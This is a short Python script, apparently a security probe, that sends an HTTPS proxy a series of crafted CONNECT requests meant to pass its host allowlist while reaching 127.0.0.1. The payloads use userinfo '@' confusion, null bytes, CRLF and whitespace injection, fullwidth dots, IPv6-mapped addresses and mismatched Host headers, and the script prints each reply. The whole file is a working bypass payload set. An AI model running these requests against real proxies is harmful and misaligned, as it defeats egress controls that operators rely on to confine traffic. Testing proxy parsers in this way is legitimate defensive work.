"""Asks the proxy for a listed name in such a way that who connects may read another."""

import contextlib
import os
import socket

proxy, port = os.environ.get("HTTPS_PROXY", "").removeprefix("http://").rstrip("/"), os.environ["TCP"]
listed, wanted = b"allowed.invalid", b"127.0.0.1"
forms = [
    listed + b"@" + wanted,
    wanted + b"\0." + listed,
    listed + b"\0" + wanted,
    wanted + b"#." + b"listed.invalid",
    wanted + b"/.listed.invalid",
    wanted + b"?.listed.invalid",
    wanted + b"%00.listed.invalid",
    wanted + b"\\.listed.invalid",
    listed + b":" + port.encode() + b"@" + wanted,
    wanted + b":" + port.encode() + b"@" + listed,
    listed + b" " + wanted,
    wanted + b"\t.listed.invalid",
    wanted + b"\r\n.listed.invalid",
    b"[" + listed + b"]" + wanted,
    b"[::ffff:127.0.0.1%25.listed.invalid]",
    "127。0。0。1.listed.invalid".encode(),
    b"127.0.0.1.",
    b".127.0.0.1",
    b"127.0.0.1.nip.listed.invalid/../" + wanted,
    b"http://" + wanted,
    b"ALLOWED.INVALID" + b"@" + wanted,
    b"",
]
requests = [b"CONNECT " + form + b":" + port.encode() + b" HTTP/1.1\r\nHost: " + listed + b"\r\n\r\n" for form in forms]
requests += [
    b"CONNECT " + listed + b":" + port.encode() + b" HTTP/1.1\r\nHost: " + wanted + b":" + port.encode() + b"\r\n\r\n",
    b"CONNECT " + listed + b":" + port.encode() + b"\n" + wanted + b":" + port.encode() + b" HTTP/1.1\r\n\r\n",
    b"CONNECT  " + wanted + b":" + port.encode() + b"  " + listed + b" HTTP/1.1\r\n\r\n",
    b"CONNECT " + listed + b":443:" + port.encode() + b" HTTP/1.1\r\n\r\n",
]
host, _, at = (proxy or f"127.0.0.1:{port}").rpartition(":")
for request in requests:
    with contextlib.suppress(OSError), socket.create_connection((host, int(at)), 2) as client:
        client.sendall(request)
        if proxy:
            client.settimeout(0.3)
            print(client.recv(60))
